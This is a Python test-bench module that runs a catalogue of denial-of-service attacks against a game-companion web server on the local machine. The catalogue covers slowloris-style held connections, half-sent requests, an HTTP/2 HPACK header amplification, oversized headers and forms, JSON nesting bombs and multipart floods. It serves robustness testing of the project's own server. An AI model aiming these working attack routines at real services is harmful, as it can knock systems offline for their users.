"""What a stranger with a plain client can throw at the server of a bench on this machine, and at no other.

python -m bench.hostile.known_attacks NAME PORT SECONDS SHARE
"""

import json
import resource
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, replace
from itertools import pairwise
from urllib.parse import urlencode

from bench.client import plain_answer
from bench.hostile.garbage import forms_of
from bench.hostile.world import documents
from companion.journal.events.game import PlayersRenamed
from companion.journal.exchange import Entry, events_of, write_journal
from companion.journal.state import Record
from tests.support.server import HOST

FROM = "127.0.0.66"
"""Another address of this machine than the phones have: a stranger is not behind the table's own."""
ADDRESSES = tuple(f"127.0.0.{last}" for last in range(66, 82))
"""Those of somebody who has several."""
LINES = 2_300
"""Connections at a time; the server once took 2,048."""
FILES = 12_000
HEAD = f"Host: {HOST}\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS, WHOLE = 4, 1, 5
"""Of HTTP/2: two kinds of frames, and the flags of headers that are whole and all there is."""
LARGEST_FRAME = 16_384
REFERENCE = b"\xbe"
"""Of HPACK: the header that was named last, once more."""


@dataclass(frozen=True, slots=True)
class Target:
    """The server of a bench, how long it is attacked, and with which share of an attack's weight."""

    port: int
    seconds: float
    share: float
    secure: bool = False
    address: str = FROM
    """Where the attack comes from."""

    def open(self, *, alpn: str = "") -> socket.socket:
        """Open a connection."""
        return tls(self.plain(), alpn) if self.secure else self.plain()

    def plain(self) -> socket.socket:
        """Open a connection without TLS."""
        return socket.create_connection((HOST, self.port), 5, (self.address, 0))

    def many(self, number: int) -> int:
        """Take the share of a number, at least one."""
        return max(1, round(number * self.share))


@dataclass(frozen=True, slots=True)
class Attack:
    """How to attack, and whether over TLS."""

    run: Callable[[Target], None]
    secure: bool = False


def tls(plain: socket.socket, alpn: str = "") -> socket.socket:
    """Speak TLS on a connection, without checking the certificate."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if alpn:
        context.set_alpn_protocols([alpn])
    return context.wrap_socket(plain)


def frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    """Write a frame of HTTP/2."""
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def long_headers(stream: int, times: int, value: int = 4_000) -> bytes:
    """Ask for a page with a header of `value` bytes that is repeated by one byte each."""
    # GET, http, / and a literal that is kept: its name `x`, the length of its value in seven bits and more, the value.
    length = value - 127
    more = bytearray()
    while length >= 128:
        more.append(length % 128 + 128)
        length //= 128
    kept = b"\x40\x01x" + b"\x7f" + bytes(more) + bytes([length]) + b"a" * value
    authority = b"\x01" + bytes([len(HOST)]) + HOST.encode()
    return frame(HEADERS, WHOLE, stream, b"\x82\x86\x84" + authority + kept + REFERENCE * times)


def lists_of_headers(target: Target) -> None:
    """Send lists of headers that are small on the wire and 16 MB once they are read, over HTTP/2."""
    until = time.monotonic() + target.seconds
    while time.monotonic() < until:
        try:
            line = target.open(alpn="h2")
            line.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
            for place in range(2):
                line.sendall(long_headers(1 + 2 * place, 3_900))
            line.settimeout(1)
            while line.recv(LARGEST_FRAME):
                pass
        except OSError:
            time.sleep(0.05)


def held(target: Target, begun: Callable[[socket.socket], None], *, raw: bool = False, number: int = LINES) -> None:
    """Hold as many connections as can be had, and open new ones for those that the server closes."""
    until = time.monotonic() + target.seconds
    lines: list[socket.socket] = []
    while time.monotonic() < until:
        try:
            if len(lines) < target.many(number):
                line = target.plain() if raw else target.open()
                line.settimeout(0.5)
                lines.append(line)
                begun(line)
                continue
        except OSError:
            pass
        lines = [line for line in lines if is_open(line)]
        time.sleep(0.1)


def is_open(line: socket.socket) -> bool:
    """Say whether the server still holds a connection."""
    try:
        line.setblocking(False)
        return bool(line.recv(1, socket.MSG_PEEK))
    except BlockingIOError:
        return True
    except OSError:
        return False


def silence(target: Target) -> None:
    """Open connections and say nothing."""
    held(target, lambda line: None, raw=True)  # noqa: ARG005


def silence_after_hello(target: Target) -> None:
    """Open connections, agree on a key, and say nothing more."""
    held(target, lambda line: None)  # noqa: ARG005


def half_heads(target: Target) -> None:
    """Begin to ask, and stop in the middle of a header."""
    held(target, lambda line: line.sendall(f"GET / HTTP/1.1\r\n{HEAD}X-".encode()))


def half_forms(target: Target) -> None:
    """Begin to send forms, and stop."""
    head = (
        f"POST /join HTTP/1.1\r\n{HEAD}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 500\r\n\r\n"
    )
    held(target, lambda line: line.sendall(f"{head}code=".encode()))


def half_large_forms(target: Target) -> None:
    """Send a part of the largest forms on as many connections as can be had, and stop."""
    head = f"POST /join HTTP/1.1\r\n{HEAD}Content-Type: {FORM}\r\nContent-Length: 60000\r\n\r\ncode="
    part = head.encode() + b"x" * 25_000
    held(target, lambda line: line.sendall(part), number=MANY_LINES)


MANY_LINES = 11_000
PHOTO = 11_900_000
"""Bytes of a photo that is just small enough."""


def half_photos(target: Target) -> None:
    """Send all but the end of photos, as many as the server holds."""
    head = f"POST /count/photo HTTP/1.1\r\n{HEAD}Content-Type: multipart/form-data; boundary=x\r\n"
    body = bytes(PHOTO - 1)
    held(target, lambda line: line.sendall(f"{head}Content-Length: {PHOTO}\r\n\r\n".encode() + body), number=40)


def photos(target: Target) -> None:
    """Send whole photos that are none, of which the form has to be read."""
    head = b'--x\r\nContent-Disposition: form-data; name="photo"; filename="a.jpg"\r\n\r\n'
    content = head + b"\r\n--xx" * (PHOTO // 6) + b"\r\n--x--\r\n"
    again_fresh(target, lambda stranger: stranger.post("/count/photo", "multipart/form-data; boundary=x", content), 6)


def deaf(target: Target) -> None:
    """Ask for page after page and read none."""
    asked = f"GET /rules HTTP/1.1\r\n{HEAD}\r\n".encode() * 200

    def ask(line: socket.socket) -> None:
        line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        line.sendall(asked)

    held(target, ask, number=LINES)


def wide_heads(target: Target) -> None:
    """Ask with as many and as long headers as a request can have."""
    long = f"GET / HTTP/1.1\r\n{HEAD}Cookie: {'a=b; ' * 12_000}\r\n\r\n".encode()
    many = f"GET / HTTP/1.1\r\n{HEAD}{''.join('X: 1' + chr(13) + chr(10) for _ in range(20_000))}\r\n".encode()
    query = f"GET /?{'a=b&' * 15_000} HTTP/1.1\r\n{HEAD}\r\n".encode()
    again(target, [long, many, query])


def again(target: Target, requests: list[bytes], lines: int = 4) -> None:
    """Send requests one after the other, on a few lines at a time."""
    until = time.monotonic() + target.seconds

    def run() -> None:
        while time.monotonic() < until:
            for request in requests:
                try:
                    plain_answer(target.open(), request)
                except OSError:
                    time.sleep(0.02)

    running = [threading.Thread(target=run, daemon=True) for _ in range(lines)]
    for one in running:
        one.start()
    for one in running:
        one.join(max(0.0, until - time.monotonic()) + 1)


class Stranger:
    """A browser that came by nobody's link, with the cookie and the form token that everybody gets."""

    def __init__(self, target: Target) -> None:
        self.target = target
        head, body = plain_answer(target.open(), f"GET /import HTTP/1.1\r\n{HEAD}Connection: close\r\n\r\n".encode())
        found = [
            line.split(b":", 1)[1].split(b";")[0] for line in head.split(b"\r\n") if line.startswith(b"set-cookie")
        ]
        self.cookie = found[0].strip().decode()
        self.token = next(one.hidden["form_token"] for one in forms_of(body.decode(), "/import") if one.hidden)

    def post(self, path: str, kind: str, body: bytes) -> bytes:
        """Write a form that this browser sends."""
        head = f"POST {path} HTTP/1.1\r\n{HEAD}Cookie: {self.cookie}\r\nX-Form-Token: {self.token}\r\n"
        return f"{head}Content-Type: {kind}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body

    def game_file(self, content: bytes) -> bytes:
        """Write the form that brings a game file in."""
        head = '--x\r\nContent-Disposition: form-data; name="file"; filename="g.json"\r\n\r\n'
        key = f'\r\n--x\r\nContent-Disposition: form-data; name="idempotency_key"\r\n\r\n{time.monotonic_ns()}'
        content = head.encode() + content + key.encode() + b"\r\n--x--\r\n"
        return self.post("/import", "multipart/form-data; boundary=x", content)

    def game_text(self, content: bytes) -> bytes:
        """Write the form that brings a game in as text."""
        fields = {"text": content.decode(), "idempotency_key": str(time.monotonic_ns())}
        return self.post("/import", FORM, urlencode(fields).encode())

    def ask(self, path: str) -> bytes:
        """Write the request of a page."""
        return f"GET {path} HTTP/1.1\r\n{HEAD}Cookie: {self.cookie}\r\n\r\n".encode()

    def sent(self, request: bytes) -> str:
        """Send a form, and return where its answer leads; raise LookupError for one that is refused."""
        head, _ = plain_answer(self.target.open(), request)
        fields = dict(line.split(b":", 1) for line in head.split(b"\r\n")[1:])
        return fields[b"location"].strip().decode().split("?")[0]


FORM = "application/x-www-form-urlencoded"


def game_of(hands: int) -> bytes:
    """Write a game that can be brought in."""
    laid = documents(())[0]
    (hand, _) = laid["hands"]
    document = {**laid, "house_rules": {"target": 100_000}, "hands": [hand] * hands}
    return json.dumps(document, separators=(",", ":")).encode()


def imports(target: Target) -> None:
    """Bring in long games, ten at a time."""
    content = game_of(1_990)
    again_fresh(target, lambda stranger: stranger.game_file(content), lines=10)


def renamed_game_of(hands: int, renamings: int) -> bytes:
    """Write a game with its history, in which a player was renamed again and again."""
    document = json.loads(game_of(hands))
    player = document["players"][0]
    names = [player, *(f"Player {number}" for number in range(renamings))]
    happened = [*events_of(document), *(PlayersRenamed({old: new}) for old, new in pairwise(names))]
    records = (Record(seq, "2026-11-21T20:00:00Z", "", event) for seq, event in enumerate(happened, start=1))
    return write_journal(Entry(f"record-{record.seq}", record) for record in records).encode()


def dear_pages(target: Target) -> None:
    """Ask for the dearest pages from sixteen addresses: those of a long game with many renamings."""
    stranger = Stranger(target)
    game = stranger.sent(stranger.game_file(renamed_game_of(1_990, 50)))
    asked = [stranger.ask(f"{game}/{page}") for page in ("sheet", "history", "export.json", "whole.txt")]
    from_all = [replace(target, address=address) for address in ADDRESSES]
    running = [threading.Thread(target=again, args=(source, asked), daemon=True) for source in from_all]
    for one in running:
        one.start()
    for one in running:
        one.join(target.seconds + 1)


def open_tables(target: Target) -> None:
    """Start games and open their tables, as many as the server lets one address."""
    until = time.monotonic() + target.seconds
    while time.monotonic() < until:
        try:
            stranger = Stranger(target)
            for _ in range(50):
                game = stranger.sent(stranger.game_text(game_of(1)))
                plain_answer(target.open(), stranger.post(f"{game}/people/open", FORM, b""))
        except (OSError, LookupError):
            time.sleep(0.05)


def huge_imports(target: Target) -> None:
    """Bring in games of 19,000 hands."""
    content = game_of(19_000)
    again_fresh(target, lambda stranger: stranger.game_file(content), lines=4)


def huge_texts(target: Target) -> None:
    """Bring in games as text, each sign of which is written as three."""
    content = b"%22" * 2_600_000
    again_fresh(target, lambda stranger: stranger.post("/import", FORM, b"text=" + content), lines=6)


def deep_files(target: Target) -> None:
    """Bring in what is no game: brackets without end, one key again and again, long numbers."""
    nested = b"[" * 4_000_000
    keys = b'{"game":' + b'"gin-rummy","game":' * 200_000 + b'"x"}'
    numbers = b"[" + b"9" * 4_000_000 + b"]"
    turns = iter(range(10**9))

    def ask(stranger: Stranger) -> bytes:
        return stranger.game_file((nested, keys, numbers)[next(turns) % 3])

    again_fresh(target, ask, lines=4)


def wide_forms(target: Target) -> None:
    """Send forms of very many fields, in both ways of writing them."""
    fields = b"&".join(b"a=" for _ in range(20_000))
    part = b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n'
    parts = part * 1_100 + b"--x--\r\n"
    lines = b"--x\r\n" + b"A: b\r\n" * 9_000
    stranger = Stranger(target)
    multipart = "multipart/form-data; boundary=x"
    sent = [stranger.post("/join", FORM, fields), stranger.post("/join", multipart, parts)]
    again(
        target, [*sent, stranger.post("/import", multipart, lines * 100), stranger.post("/import", FORM, fields * 100)]
    )


def again_fresh(target: Target, make: Callable[[Stranger], bytes], lines: int) -> None:
    """Send requests that differ each time, each from a browser of its own, on a few lines at a time."""
    until = time.monotonic() + target.seconds

    def run() -> None:
        while time.monotonic() < until:
            try:
                plain_answer(target.open(), make(Stranger(target)))
            except (OSError, LookupError):
                time.sleep(0.05)

    running = [threading.Thread(target=run, daemon=True) for _ in range(lines)]
    for one in running:
        one.start()
    for one in running:
        one.join(max(0.0, until - time.monotonic()) + 1)


KNOWN = {
    "nothing": Attack(lambda target: time.sleep(target.seconds)),
    "lists-of-headers": Attack(lists_of_headers),
    "lists-of-headers-tls": Attack(lists_of_headers, secure=True),
    "silence": Attack(silence),
    "silence-tls": Attack(silence, secure=True),
    "silence-after-hello": Attack(silence_after_hello, secure=True),
    "half-heads": Attack(half_heads),
    "half-forms": Attack(half_forms),
    "half-large-forms": Attack(half_large_forms),
    "deaf": Attack(deaf),
    "wide-heads": Attack(wide_heads),
    "wide-forms": Attack(wide_forms),
    "imports": Attack(imports),
    "huge-imports": Attack(huge_imports),
    "huge-texts": Attack(huge_texts),
    "deep-files": Attack(deep_files),
    "half-photos": Attack(half_photos),
    "photos": Attack(photos),
    "dear-pages": Attack(dear_pages),
    "open-tables": Attack(open_tables),
}
HOSTILE = tuple(name for name in KNOWN if name != "nothing")


def main() -> int:
    name, port, seconds, share = sys.argv[1:]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(FILES, most), most))
    attack = KNOWN[name]
    attack.run(Target(int(port), float(seconds), float(share), secure=attack.secure))
    return 0


if __name__ == "__main__":
    sys.exit(main())
